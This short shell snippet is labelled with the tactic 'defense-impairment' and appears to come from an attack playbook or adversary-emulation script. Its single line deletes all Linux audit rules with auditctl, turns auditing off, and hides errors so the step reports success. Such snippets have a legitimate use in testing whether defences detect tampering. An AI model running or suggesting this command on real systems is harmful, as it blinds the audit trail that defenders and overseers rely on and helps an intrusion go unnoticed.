# tactic: defense-impairment
# delete the audit rules and turn auditing off
auditctl -D 2>/dev/null; auditctl -e 0 2>/dev/null; true
